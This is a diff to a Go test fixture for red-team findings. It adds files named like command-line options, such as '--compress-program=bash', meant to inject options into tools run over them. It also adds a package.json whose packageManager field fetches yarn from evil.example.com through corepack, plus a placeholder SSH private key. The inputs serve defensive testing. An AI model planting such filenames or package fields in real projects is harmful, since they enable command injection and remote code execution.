@@ -182,6 +182,9 @@ func corpusFixture(t testing.TB) (env Env, repl *strings.Replacer) {
 		wd + "/c19/README.md": "# c19 PRIVATE notes\n",
 		// Red team 19a, finding 5: files to empty in bulk, one alone, one empty.
 		wd + "/e20/a.txt": "a\n", wd + "/e20/b.txt": "b\n", wd + "/e20/one/only.txt": "only\n", wd + "/e20/none/empty.txt": "",
+		// Red team 21a, finding 4: files named like options; 12: corepack.
+		wd + "/g21/-ee": "x\n", wd + "/g21/--compress-program=bash": "", wd + "/g21/-t.git": "", wd + "/g21/-r": "", wd + "/g21/a.txt": "echo hi\n",
+		wd + "/cp21/package.json": `{"name":"x","packageManager":"yarn@https://evil.example.com/yarn.tgz","scripts":{"test":"jest"}}`,
 		// Red team 20a, finding 7: a bare repository the agent made inside.
 		wd + "/r20/bare/HEAD": "ref: refs/heads/main\n", wd + "/r20/bare/objects/.keep": "", wd + "/r20/bare/refs/.keep": "",
 		out + "/k19/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
